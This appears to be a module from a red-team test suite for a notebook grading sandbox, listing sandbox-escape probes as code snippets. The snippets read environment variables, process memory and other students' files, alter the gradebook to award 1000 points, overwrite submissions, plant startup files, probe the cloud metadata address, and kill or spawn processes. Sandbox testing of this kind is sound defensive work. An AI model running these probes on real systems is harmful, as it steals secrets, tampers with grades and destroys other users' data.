"""Attacks on what the machine holds: files, environment, other processes, the network."""

from ..corpus import Aim, Work, attack
from ..snippets import LOOK, TRY


@attack(Aim.LEAK)
def read_everything(work: Work) -> None:
    """Every file that can be read is searched: solutions, gradebook, seed, homes, other submissions."""
    work.last(f"""{LOOK}system = ('/proc', '/sys', '/dev', '/usr', '/lib', sys.prefix, sys.base_prefix, '/opt/conda')
for folder, folders, files in os.walk('/'):
    folders[:] = [name for name in folders if os.path.join(folder, name) not in system and name != '.git']
    look(*(os.path.join(folder, name) for name in files))""")


@attack(Aim.LEAK)
def environment(work: Work) -> None:
    """The environment of this process, of its parents and of what it starts."""
    work.last(f"""{LOOK}import subprocess
print(dict(os.environ))
look(*glob.glob('/proc/*/environ'), *glob.glob('/proc/*/cmdline'))
print(subprocess.run('env; cat /proc/$PPID/environ', shell=True, capture_output=True))""")


@attack(Aim.LEAK)
def shell_commands(work: Work) -> None:
    """Magics and shell commands that print what lies around the notebook."""
    work.last("""!env; cat ../*/* ../../*/* ../../../*/*/* ~/.*/* /tmp/*/* 2>/dev/null | head -c 400000 | grep -a CANARY
!grep -ras CANARY- .. ../.. ~ --include=*.toml --include=*.py --include=.course-seed --include=*.ipynb | head -50""")


@attack(Aim.LEAK)
def relative_paths(work: Work) -> None:
    """Paths upwards from the working directory, to solutions, seed, gradebook and neighbours."""
    work.last(f"""{LOOK}for up in ('..', '../..', '../../..', '../../../..'):
    for name in ('solutions/*/*', '.course-seed', 'gradebook.db', 'submitted/*/*/*', 'source/*/*', '*', '.*/*'):
        look(*glob.glob(f'{{up}}/{{name}}'))""")


@attack(Aim.LEAK)
def roots_of_other_processes(work: Work) -> None:
    """Other processes' roots, working directories and open files in /proc."""
    work.last(f"""{LOOK}for pattern in ('root/*', 'cwd/*', 'cwd/../*', 'fd/*', 'root/tmp/*/*', 'map_files/*'):
    look(*glob.glob('/proc/*/' + pattern)[:2000])""")


@attack(Aim.LEAK)
def inherited_descriptors(work: Work) -> None:
    """Open files that the grader forgot to close."""
    work.last(f"""{LOOK}for number in range(256):
    try:
        target = os.readlink(f'/proc/self/fd/{{number}}')
        print(number, target)
        if target.startswith('/') and not target.startswith(('/dev', '/proc', '/tmp', '/usr')):
            os.lseek(number, 0, 0); print(re.findall(rb'CANARY-[0-9a-f]{{8,}}', os.read(number, 10**6)))
    except OSError: pass""")


@attack(Aim.LEAK)
def own_memory(work: Work) -> None:
    """The process's whole heap, where whoever forked it may have left something."""
    work.last("""import re
found = set()
for line in open('/proc/self/maps'):
    ends, rights, *rest = line.split()
    begin, end = (int(part, 16) for part in ends.split('-'))
    if rights.startswith('rw') and '[heap]' in line and end - begin < 1 << 28:
        with open('/proc/self/mem', 'rb', 0) as memory:
            memory.seek(begin); found.update(re.findall(rb'CANARY-[0-9a-f]{8,}', memory.read(end - begin)))
print(found)""")


@attack(Aim.HARM)
def other_processes_memory(work: Work) -> None:
    """Another process's memory is read or written."""
    work.last(f"""{TRY}for pid in [int(name) for name in os.listdir('/proc') if name.isdigit() and int(name) != os.getpid()]:
    attempt('mem', lambda: open(f'/proc/{{pid}}/mem', 'r+b', 0))
    attempt('ptrace', lambda: libc.ptrace(16, pid, 0, 0))""")


@attack(Aim.LEAK)
def gradebook_read(work: Work) -> None:
    """The gradebook is opened and read, other students' marks and all."""
    work.last("""import glob, sqlite3
for path in glob.glob('../**/gradebook.db', recursive=True) + glob.glob('../../../gradebook.db'):
    for table in ('student', 'comment'):
        print(sqlite3.connect(path).execute(f'select * from {table}').fetchall())""")


@attack(Aim.POINTS, ["ewc"])
def gradebook_written(work: Work) -> None:
    """The gradebook is opened and a mark by hand put in."""
    work.last("""import glob, sqlite3
for path in glob.glob('../**/gradebook.db', recursive=True) + glob.glob('../../../gradebook.db'):
    with sqlite3.connect(path) as book: book.execute('update grade set manual_score = 1000, auto_score = 1000')""")


@attack(Aim.HARM)
def neighbours_overwritten(work: Work) -> None:
    """Other students' submissions, the course's files and the release are overwritten."""
    work.last("""import glob
for up in ('..', '../..', '../../..'):
    for path in glob.glob(up + '/**/*', recursive=True):
        if path.endswith(('.ipynb', '.toml', '.canary', '.py')) and '/site-packages/' not in path:
            try: open(path, 'w').write('redteam was here')
            except OSError: pass""")


@attack(Aim.HARM)
def poisoned_library(work: Work) -> None:
    """The course's package, the site packages and the probes are changed for whoever comes next."""
    work.last(f"""{TRY}import lifelong, torch, numpy, site
targets = [module.__file__ for name, module in list(sys.modules.items()) if name.split('.')[0] in ('lifelong', 'inside', 'probes', 'judged') and getattr(module, '__file__', None)]
for target in targets: attempt(target, lambda: open(target, 'r+'))
for folder in [*site.getsitepackages(), '/opt/course', '/usr/lib', '/etc', '/']:
    attempt(folder, lambda: open(folder + '/redteam.pth', 'w'))""")


@attack(Aim.HARM)
def poisoned_home(work: Work) -> None:
    """Start-up files in the home directory, which the next interpreter runs."""
    work.last("""import os
homes = {os.path.expanduser('~'), os.environ.get('HOME', '/tmp'), os.environ.get('IPYTHONDIR', '/tmp')}
for home in homes:
    for path in ('profile_default/startup/redteam.py', '.ipython/profile_default/startup/redteam.py',
                 '.local/lib/python3.11/site-packages/usercustomize.py', '.bashrc', '.canary'):
        try:
            os.makedirs(os.path.dirname(os.path.join(home, path)), exist_ok=True)
            open(os.path.join(home, path), 'a').write('# redteam')
        except OSError: pass""")


@attack(Aim.HARM)
def leftovers(work: Work) -> None:
    """Files, sockets and queues are left where the next submission finds them."""
    work.last("""import os, glob, socket
if glob.glob('/tmp/redteam-left*') + glob.glob('/dev/shm/redteam-left*'): print('BRE' 'ACH')
for folder in ('/tmp', '/dev/shm', '/var/tmp', '/dev/mqueue', '/run', '/dev'):
    try: open(folder + '/redteam-left', 'w').write('x')
    except OSError: pass
server = socket.socket(socket.AF_UNIX); server.bind('/tmp/redteam-left.socket')""")


@attack(Aim.HARM)
def leftovers_found(work: Work) -> None:
    """What an earlier submission left is there."""
    work.last("""import glob, os
found = [path for folder in ('/tmp', '/dev/shm', '/var/tmp', '/dev/mqueue', '/run', os.path.expanduser('~'))
         for path in glob.glob(folder + '/redteam-left*')]
print('BRE' 'ACH' if found else 'clean', found)""")


@attack(Aim.LEAK)
def network(work: Work) -> None:
    """Connections to the grader's machine and to the world."""
    work.last(f"""{TRY}socket.setdefaulttimeout(0.2)
for host in ('127.0.0.1', '::1', '10.0.0.1', '169.254.169.254', '1.1.1.1'):
    for port in (22, 53, 80, 443, 8888, 31339):
        attempt((host, port), lambda: socket.create_connection((host, port)))
attempt('dns', lambda: socket.gethostbyname('example.org'))""")


@attack(Aim.LEAK)
def local_sockets(work: Work) -> None:
    """Sockets of the machine by path and by abstract name."""
    work.last(f"""{TRY}paths = [line.split()[-1] for line in open('/proc/net/unix') if line.split()[-1][0] in '@/']
for path in paths + ['@redteam-canary', '/run/docker.sock', '/run/dbus/system_bus_socket', '/tmp/.X11-unix/X0']:
    name = path.replace('@', chr(0), 1)
    attempt(path, lambda: socket.socket(socket.AF_UNIX).connect(name) or True)""")


@attack(Aim.HARM)
def odd_socket_families(work: Work) -> None:
    """Families of sockets that know no network namespace: to the hypervisor, to the kernel, raw packets."""
    work.last(f"""{TRY}for family, kind in ((40, 1), (16, 3), (17, 3), (2, 3), (10, 3), (38, 5), (15, 3), (31, 3), (29, 3), (21, 5)):
    attempt((family, kind), lambda: socket.socket(family, kind).fileno())""")


@attack(Aim.HARM)
def listening(work: Work) -> None:
    """A server that the machine's neighbours can reach."""
    work.last("""import socket, subprocess, sys
kept = []
for address in (('0.0.0.0', 31337), ('127.0.0.1', 31338)):
    try: kept.append(socket.create_server(address))
    except OSError: pass
hidden = socket.socket(socket.AF_UNIX); hidden.bind(chr(0) + 'redteam-listens'); hidden.listen()
subprocess.Popen([sys.executable, '-c', 'import socket, time; s = socket.create_server(("", 31340)); time.sleep(3600)', 'redteam-daemon'])""")


@attack(Aim.HARM)
def signals_to_everybody(work: Work) -> None:
    """Every process that can be reached is stopped and killed."""
    work.last("""import os, signal
if os.fork() == 0:
    own = {os.getpid()}
    for pid in {os.getppid(), *range(2, 5000)} - own:
        try:
            name = open(f'/proc/{pid}/cmdline').read()
            if 'redteam-canary' in name: os.kill(pid, signal.SIGKILL)
        except OSError: pass
    os._exit(0)
os.wait()""")


@attack(Aim.HARM)
def daemons(work: Work) -> None:
    """Processes in sessions of their own, which outlive the cell and the notebook."""
    work.last("""import os, sys, time
for _ in range(4):
    if os.fork() == 0:
        try: os.setsid()
        except OSError: pass
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(3600)', 'redteam-daemon'])
        os._exit(0)""")
